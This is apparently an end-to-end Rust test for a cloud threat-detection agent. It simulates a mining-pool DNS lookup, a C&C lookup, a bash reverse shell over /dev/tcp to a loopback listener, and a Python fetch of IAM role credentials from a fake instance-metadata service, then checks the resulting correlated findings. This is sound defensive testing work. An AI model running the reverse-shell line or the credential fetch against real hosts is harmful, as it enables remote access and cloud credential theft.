//! Correlation end to end: the real agent on this host, its identity from a fake IMDS on loopback
//! (through the agent's own IMDS client), and generated Route 53 Resolver and CloudTrail records
//! that refer to that instance id and its addresses.
//!
//! * A process looks up a mining pool (DNS server on 127.0.0.77): the runtime engine raises
//!   `CryptoCurrency:Runtime/BitcoinTool.B!DNS`; the Resolver record of the same query yields
//!   `CryptoCurrency:EC2/BitcoinTool.B!DNS`, which the correlator attributes to the same process,
//!   links to its runtime twin and archives (the runtime finding is the alert).
//! * A process fetches the role credentials from the fake IMDS; CloudTrail records of that
//!   instance's role session from an outside address yield one
//!   `InstanceCredentialExfiltration.OutsideAWS` finding naming that process and the calls.
//! * Three runtime findings on the instance (mining pool, C&C lookup, reverse shell) make one
//!   `AttackSequence:EC2/CompromisedInstanceGroup`; the credential finding, a fourth signal, updates
//!   it (same id).
//!
//! The agent sees the fetch as a connect to 127.0.0.1:<fake IMDS port>, so the correlator is
//! configured with that endpoint instead of 169.254.169.254:80.
//!
//! The Resolver-log finding is filed here as the foundational DNS engine files it (the built-in
//! mining-pool list, `srcids.instance`, keyed on the domain): that engine is not on main yet.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::process::{Command, Stdio};
use std::time::Duration;

use ward_collector::correlate::{Change, CorrelateConfig, Correlated, Correlator, hosts::HostMap};
use ward_collector::detect::offline::Setup;
use ward_collector::detect::{EngineConfig, HostIdentity, RuntimeEvent};
use ward_collector::event::{CloudTrailRecord, DnsQuery};
use ward_collector::findings::resource::resource_type;
use ward_collector::findings::time::{EpochMillis, format_millis, parse_millis};
use ward_collector::findings::{
    Action, AffectedResource, AggregationKey, Aggregator, DnsRequestAction, Finding,
    InstanceDetails, Occurrence, Resource, Scope,
};
use ward_tests::{Agent, can_load_ebpf, marker};

const WAIT: Duration = Duration::from_secs(15);
const TOKEN: &str = "AQAEAFake-correlate-token==";
const INSTANCE: &str = "i-0c0ffee0c0ffee0c0";
const PRIVATE_IP: &str = "10.0.1.5";
const OUTSIDE_IP: &str = "198.51.100.23";

/// IMDSv2 on loopback: token, identity document, one interface, the instance profile and the role
/// credentials (fake values).
fn fake_imds() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for sock in listener.incoming() {
            let Ok(mut sock) = sock else { return };
            let mut buf = Vec::new();
            let mut chunk = [0u8; 2048];
            while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
                match sock.read(&mut chunk) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => buf.extend_from_slice(&chunk[..n]),
                }
            }
            let req = String::from_utf8_lossy(&buf).to_string();
            let line = req.lines().next().unwrap_or("").to_string();
            // Header names are case-insensitive (Python's urllib sends `X-aws-ec2-metadata-token`).
            let authed = req.lines().any(|l| {
                l.split_once(':').is_some_and(|(k, v)| {
                    k.eq_ignore_ascii_case("x-aws-ec2-metadata-token") && v.trim() == TOKEN
                })
            });
            let parts: Vec<&str> = line.split_whitespace().take(2).collect();
            let mac = "/latest/meta-data/network/interfaces/macs/0a:00:00:00:00:01/";
            let (status, body) = match parts[..] {
                ["PUT", "/latest/api/token"] => ("200 OK", TOKEN.to_string()),
                [_, _] if !authed => ("401 Unauthorized", String::new()),
                ["GET", "/latest/dynamic/instance-identity/document"] => (
                    "200 OK",
                    format!(
                        r#"{{"accountId":"123456789012","availabilityZone":"eu-west-1a","imageId":"ami-0abc","instanceId":"{INSTANCE}","instanceType":"m5.large","privateIp":"{PRIVATE_IP}","region":"eu-west-1"}}"#
                    ),
                ),
                ["GET", "/latest/meta-data/network/interfaces/macs/"] => {
                    ("200 OK", "0a:00:00:00:00:01/".to_string())
                }
                ["GET", p] if p == format!("{mac}local-ipv4s") => {
                    ("200 OK", PRIVATE_IP.to_string())
                }
                ["GET", p] if p == format!("{mac}public-ipv4s") => {
                    ("200 OK", "203.0.113.25".to_string())
                }
                ["GET", p] if p == format!("{mac}interface-id") => {
                    ("200 OK", "eni-0e2e".to_string())
                }
                ["GET", p] if p == format!("{mac}vpc-id") => ("200 OK", "vpc-0e2e".to_string()),
                ["GET", "/latest/meta-data/iam/info"] => (
                    "200 OK",
                    r#"{"Code":"Success","InstanceProfileArn":"arn:aws:iam::123456789012:instance-profile/web","InstanceProfileId":"AIPAE2E"}"#.to_string(),
                ),
                ["GET", "/latest/meta-data/iam/security-credentials/web-role"] => (
                    "200 OK",
                    r#"{"Code":"Success","Type":"AWS-HMAC","AccessKeyId":"ASIAE2EFAKEKEY","SecretAccessKey":"fake","Token":"fake"}"#.to_string(),
                ),
                _ => ("404 Not Found", String::new()),
            };
            let resp = format!(
                "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
            let _ = sock.write_all(resp.as_bytes());
        }
    });
    addr
}

fn scope() -> Scope {
    Scope::new("123456789012", "eu-west-1", "ward")
}

/// The Resolver query-log record of a query the agent saw, as Route 53 would write it.
fn resolver_record(name: &str, at: EpochMillis) -> String {
    format!(
        r#"{{"version":"1.100000","account_id":"123456789012","region":"eu-west-1","vpc_id":"vpc-0e2e",
        "query_timestamp":"{}","query_name":"{name}.","query_type":"A","query_class":"IN","rcode":"NOERROR",
        "answers":[{{"Rdata":"192.0.2.7","Type":"A","Class":"IN"}}],"srcaddr":"{PRIVATE_IP}","srcport":"40123",
        "transport":"UDP","srcids":{{"instance":"{INSTANCE}"}}}}"#,
        format_millis(at + 30)
    )
}

/// `CryptoCurrency:EC2/BitcoinTool.B!DNS` for a Resolver record naming a pool, as the DNS-log
/// engine files it.
fn dns_log_finding(record: &DnsQuery<'_>) -> Finding {
    let domain = record.domain().unwrap();
    let t = ward_collector::intel::builtin::mining_pool_finding(domain, AffectedResource::Ec2)
        .expect("the query is for a listed pool");
    let resource = Resource {
        resource_type: Some(resource_type::INSTANCE.into()),
        instance_details: Some(InstanceDetails {
            instance_id: record.instance_id().map(str::to_owned),
            ..Default::default()
        }),
        ..Default::default()
    };
    let key = AggregationKey::new(t, &resource, [("domain", domain)]).unwrap();
    let mut details = Finding::draft(t, resource);
    details.service.action = Some(Action {
        action_type: Some("DNS_REQUEST".into()),
        dns_request_action: Some(DnsRequestAction {
            domain: Some(domain.into()),
            protocol: Some("UDP".into()),
            blocked: Some(false),
            ..Default::default()
        }),
        ..Default::default()
    });
    let mut aggregator = Aggregator::new(scope());
    let (_, finding) = aggregator
        .record(Occurrence {
            key,
            event_time: record.time_ms().unwrap(),
            details,
        })
        .unwrap();
    finding.clone()
}

fn cloudtrail(at: EpochMillis, ip: &str, name: &str) -> String {
    format!(
        r#"{{"eventVersion":"1.08","userIdentity":{{"type":"AssumedRole","principalId":"AROAE2E:{INSTANCE}",
        "arn":"arn:aws:sts::123456789012:assumed-role/web-role/{INSTANCE}","accountId":"123456789012",
        "accessKeyId":"ASIAE2EFAKEKEY","sessionContext":{{"sessionIssuer":{{"type":"Role",
        "arn":"arn:aws:iam::123456789012:role/web-role"}},"ec2RoleDelivery":"2.0"}}}},
        "eventTime":"{}","eventSource":"iam.amazonaws.com","eventName":"{name}","awsRegion":"eu-west-1",
        "sourceIPAddress":"{ip}","userAgent":"aws-cli/2.15.0","eventID":"e2e-{name}"}}"#,
        format_millis(at)
    )
}

fn run_python(code: &str) -> u32 {
    let mut child = Command::new("/usr/bin/python3")
        .args(["-c", code])
        .spawn()
        .unwrap();
    let pid = child.id();
    assert!(child.wait().unwrap().success(), "python failed: {code}");
    pid
}

fn of_change(out: &[Correlated], change: Change) -> Vec<&Finding> {
    out.iter()
        .filter(|o| o.change == change)
        .map(|o| &o.finding)
        .collect()
}

#[test]
fn agent_and_logs_correlate_into_linked_findings_credential_theft_and_a_sequence() {
    if !can_load_ebpf(
        "agent_and_logs_correlate_into_linked_findings_credential_theft_and_a_sequence",
    ) {
        return;
    }
    let imds = fake_imds();
    // The host identity exactly as the agent announces it in its Hello.
    let hello = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(ward_agent::transport::identity::resolve(
            "agent-e2e",
            &ward_agent::transport::imds::ImdsEndpoint::parse(&format!("http://{imds}")).unwrap(),
            Duration::from_secs(5),
            &Default::default(),
        ));
    assert_eq!(hello.instance_id, INSTANCE);
    let hello_at = parse_millis(&format_millis(
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_millis() as i64,
    ))
    .unwrap();

    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let shell_port = listener.local_addr().unwrap().port();
    let agent = Agent::start(&[
        "--types",
        "process_exec,process_fork,process_exit,net_connect,net_stdio_socket,dns_query",
    ]);
    let mark = marker("correlate");

    // 1. A mining-pool lookup.
    let dns = ward_tests::dns_server_once();
    let pool_pid = run_python(&ward_tests::python_dns_query("pool.supportxmr.com"));
    dns.join().unwrap();
    // 2. A lookup of a GuardDuty test C&C domain.
    let dns = ward_tests::dns_server_once();
    let cnc_pid = run_python(&ward_tests::python_dns_query("guarddutyc2activityb.com"));
    dns.join().unwrap();
    // 3. A reverse shell to a loopback listener.
    let mut shell = Command::new("bash")
        .args([
            "-c",
            &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{shell_port} 0>&1 # {mark}"),
        ])
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    let (mut conn, _) = listener.accept().unwrap();
    conn.write_all(b"exit\n").unwrap();
    let _ = conn.read_to_end(&mut Vec::new());
    shell.wait().unwrap();
    // 4. The role credentials taken from instance metadata (IMDSv2, as the SDKs do).
    let thief_pid = run_python(&format!(
        "import urllib.request as u\n\
         t=u.urlopen(u.Request('http://{imds}/latest/api/token',method='PUT',headers={{'X-aws-ec2-metadata-token-ttl-seconds':'60'}})).read().decode()\n\
         u.urlopen(u.Request('http://{imds}/latest/meta-data/iam/security-credentials/web-role',headers={{'X-aws-ec2-metadata-token':t}})).read()"
    ));

    let events = agent
        .events_until(WAIT, |e| {
            e["type"] == "net_connect"
                && e["process"]["pid"] == thief_pid
                && e["socket"]["remote"]["port"] == imds.port()
        })
        .expect("the agent recorded the credential fetch");
    agent.stop();

    // The collector side: host map from the Hello, runtime engine, correlator.
    let mut hosts = HostMap::new();
    hosts.observe_hello("agent-e2e", &hello, hello_at);
    let mut config = CorrelateConfig::new(scope());
    config.activity.imds_endpoints = vec![imds];
    let mut correlator = Correlator::new(config, hosts);
    let mut engine = Setup {
        config: EngineConfig {
            scope: scope(),
            host: HostIdentity {
                instance_id: hello.instance_id.clone(),
                agent_id: Some("agent-e2e".into()),
                hostname: Some(hello.hostname.clone()),
            },
            ..EngineConfig::default()
        },
        ..Setup::default()
    }
    .build()
    .unwrap();

    let mut out: Vec<Correlated> = Vec::new();
    let mut pool_query_at = None;
    let mut fetch_at = None;
    for value in &events {
        // The loopback DNS server's answer, sent by this test process, leaves through `lo` as
        // well and the agent reports it as a query with no process. On EC2 the resolver is
        // another host; here it would only add a second, unattributed copy of each finding.
        if value["type"] == "dns_query" && value["process"].is_null() {
            continue;
        }
        let ev = RuntimeEvent::from_json(&value.to_string()).unwrap();
        correlator.on_agent_event("agent-e2e", &ev);
        if value["type"] == "dns_query" && value["process"]["pid"] == pool_pid {
            pool_query_at = ev.time_millis();
        }
        if value["type"] == "net_connect" && value["process"]["pid"] == thief_pid {
            fetch_at = ev.time_millis();
        }
        for emitted in engine.process(&ev) {
            out.extend(correlator.on_finding(emitted.finding));
        }
    }
    let runtime_types: Vec<&str> = out
        .iter()
        .filter(|o| o.change == Change::Passed || o.change == Change::Attributed)
        .map(|o| o.finding.finding_type_name.as_str())
        .collect();
    let runtime_pool = out
        .iter()
        .map(|o| &o.finding)
        .find(|f| f.finding_type_name == "CryptoCurrency:Runtime/BitcoinTool.B!DNS")
        .unwrap_or_else(|| panic!("no runtime pool finding in {runtime_types:?}"))
        .clone();
    assert!(
        runtime_types.contains(&"Execution:Runtime/ReverseShell"),
        "{runtime_types:?}"
    );
    let cnc = out
        .iter()
        .map(|o| &o.finding)
        .find(|f| f.finding_type_name == "Backdoor:Runtime/C&CActivity.B!DNS")
        .unwrap_or_else(|| panic!("no C&C finding in {runtime_types:?}"));
    assert_eq!(
        cnc.service
            .runtime_details
            .as_ref()
            .unwrap()
            .process
            .as_ref()
            .unwrap()
            .pid,
        Some(cnc_pid.into())
    );
    // Three runtime findings on the instance: one attack sequence.
    let sequences = of_change(&out, Change::Sequence);
    assert_eq!(sequences.len(), 1, "{runtime_types:?}");
    let sequence = sequences[0].clone();
    assert_eq!(
        sequence.finding_type_name,
        "AttackSequence:EC2/CompromisedInstanceGroup"
    );
    assert_eq!(sequence.severity.label(), "Critical");
    assert_eq!(
        sequence
            .resource
            .instance_details
            .as_ref()
            .unwrap()
            .instance_id
            .as_deref(),
        Some(INSTANCE)
    );
    let signals = |f: &Finding| -> Vec<String> {
        f.service.detection.as_ref().unwrap()["sequence"]["signals"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s["name"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(signals(&sequence).len(), 3, "{:?}", signals(&sequence));

    // The Resolver record of the pool lookup.
    let pool_query_at = pool_query_at.expect("the agent recorded the pool lookup");
    let text = resolver_record("pool.supportxmr.com", pool_query_at);
    let record: DnsQuery = serde_json::from_str(&text).unwrap();
    let log_out = correlator.on_finding(dns_log_finding(&record));
    let twin = &log_out[0];
    assert_eq!(twin.change, Change::Duplicate, "{log_out:#?}");
    assert_eq!(
        twin.finding.finding_type_name,
        "CryptoCurrency:EC2/BitcoinTool.B!DNS"
    );
    assert!(twin.finding.service.archived, "not alerted twice");
    let ward = twin.finding.service.ward_details().unwrap();
    assert_eq!(ward.process.as_ref().unwrap().pid, Some(pool_pid.into()));
    assert!(
        ward.process
            .as_ref()
            .unwrap()
            .name
            .as_deref()
            .unwrap_or("")
            .starts_with("python"),
        "{:?}",
        ward.process
    );
    assert_eq!(ward.duplicate_of.as_deref(), Some(runtime_pool.id.as_str()));
    assert_eq!(ward.attribution.as_ref().unwrap().event_type, "dns_query");
    let linked = of_change(&log_out, Change::Linked);
    assert_eq!(linked.len(), 1);
    assert_eq!(linked[0].id, runtime_pool.id);
    assert!(!linked[0].service.archived);
    assert_eq!(
        linked[0].service.ward_details().unwrap().linked_finding_ids,
        std::slice::from_ref(&twin.finding.id)
    );
    assert!(
        of_change(&log_out, Change::Sequence).is_empty(),
        "an archived twin is no new signal"
    );

    // CloudTrail: the instance's own call, then its session from outside.
    let fetch_at = fetch_at.expect("the agent recorded the fetch");
    let own_text = cloudtrail(fetch_at + 60_000, PRIVATE_IP, "GetCallerIdentity");
    let own: CloudTrailRecord = serde_json::from_str(&own_text).unwrap();
    assert!(
        of_change(&correlator.on_cloudtrail(&own), Change::CredentialTheft).is_empty(),
        "the instance's own address is not theft"
    );
    let outside_text = cloudtrail(fetch_at + 600_000, OUTSIDE_IP, "ListUsers");
    let outside: CloudTrailRecord = serde_json::from_str(&outside_text).unwrap();
    let trail_out = correlator.on_cloudtrail(&outside);
    let theft = of_change(&trail_out, Change::CredentialTheft);
    assert_eq!(theft.len(), 1, "{trail_out:#?}");
    let theft = theft[0];
    assert_eq!(
        theft.finding_type_name,
        "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS"
    );
    let ward = theft.service.ward_details().unwrap();
    assert_eq!(ward.process.as_ref().unwrap().pid, Some(thief_pid.into()));
    assert_eq!(ward.instance_id.as_deref(), Some(INSTANCE));
    assert_eq!(ward.agent_id.as_deref(), Some("agent-e2e"));
    assert_eq!(ward.api_calls.len(), 1);
    assert_eq!(ward.api_calls[0].event_name, "ListUsers");
    assert_eq!(ward.api_calls[0].source_ip.as_deref(), Some(OUTSIDE_IP));
    assert!(
        theft.description.contains(&format!("pid {thief_pid}")),
        "{}",
        theft.description
    );

    // The credential finding is the fourth signal: the same sequence, updated.
    let updated = of_change(&trail_out, Change::Sequence);
    assert_eq!(updated.len(), 1, "{trail_out:#?}");
    assert_eq!(updated[0].id, sequence.id, "updated, not duplicated");
    assert_eq!(updated[0].service.count, 2);
    let names = signals(updated[0]);
    assert_eq!(names.len(), 4, "{names:?}");
    assert!(names.contains(
        &"UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS".to_string()
    ));
    assert_eq!(
        theft.associated_attack_sequence_arn.as_deref(),
        Some(sequence.arn.as_str())
    );
}
